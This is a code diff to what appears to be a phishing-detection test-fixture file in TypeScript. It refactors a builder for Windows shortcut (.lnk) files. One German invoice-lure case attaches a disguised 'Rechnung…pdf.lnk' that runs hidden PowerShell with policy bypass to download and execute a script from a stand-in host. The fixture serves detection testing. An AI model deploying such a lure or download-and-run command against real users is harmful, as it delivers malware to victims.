@@ -12,7 +12,7 @@
 import QRCode from 'qrcode';
 
 import type { Lang } from './legitimate-mail-cases.ts';
-import { docx, isoImage, join, latin1Bytes, ole, textPdf, zip } from './formats-builders.ts';
+import { docx, isoImage, join, latin1Bytes, ole, shortcut, textPdf, zip } from './formats-builders.ts';
 import { attachment, document, gmailBody, html, mail, multipart, plain } from './mail-builder.ts';
 
 export type Lure =
@@ -57,23 +57,6 @@ export interface PhishingCase {
 /** A QR code as the PNG picture that quishing mail carries. */
 async function qrPng(text: string): Promise<Uint8Array> {
   return new Uint8Array(await QRCode.toBuffer(text, { type: 'png', scale: 6, margin: 4 }));
-}
-
-/** A Windows shortcut (.lnk): the shell-link header and CLSID, a relative path, then its arguments. */
-function lnk(target: string, args: string): Uint8Array {
-  const header = new Uint8Array(76);
-  const view = new DataView(header.buffer);
-  view.setUint32(0, 0x4c, true);
-  header.set([0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46], 4);
-  view.setUint32(20, 0x00000020 | 0x00000008 | 0x00000080, true); // HasRelativePath | HasArguments | IsUnicode
-  view.setUint32(60, 7, true); // SW_SHOWMINNOACTIVE
-  const utf16 = (text: string): Uint8Array => {
-    const out = new Uint8Array(2 + text.length * 2);
-    new DataView(out.buffer).setUint16(0, text.length, true);
-    for (let i = 0; i < text.length; i += 1) new DataView(out.buffer).setUint16(2 + i * 2, text.charCodeAt(i), true);
-    return out;
-  };
-  return join(header, utf16(target), utf16(args));
 }
 
 /** MS-OVBA compression written as literal tokens only (a valid container; small streams, so one chunk). */
@@ -1460,7 +1443,7 @@ export const CASES: readonly PhishingCase[] = [
       relay: 'mout.gmx.net [212.227.15.19]',
       body: multipart('mixed', [
         plain('Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie die Rechnung 2025-0412 mit der Bitte um Begleichung innerhalb von 7 Tagen.\n\nMit freundlichen Grüßen\nPetra Schmitt'),
-        attachment('Rechnung_2025-0412.zip', 'application/zip', zip({ 'Rechnung_2025-0412.pdf.lnk': lnk('..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-w h -nop -ep bypass -c "iwr -useb https://rechnung-cdn.example.net/r.ps1 | iex"') })),
+        attachment('Rechnung_2025-0412.zip', 'application/zip', zip({ 'Rechnung_2025-0412.pdf.lnk': shortcut('..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-w h -nop -ep bypass -c "iwr -useb https://rechnung-cdn.example.net/r.ps1 | iex"') })),
       ]),
     }),
   },
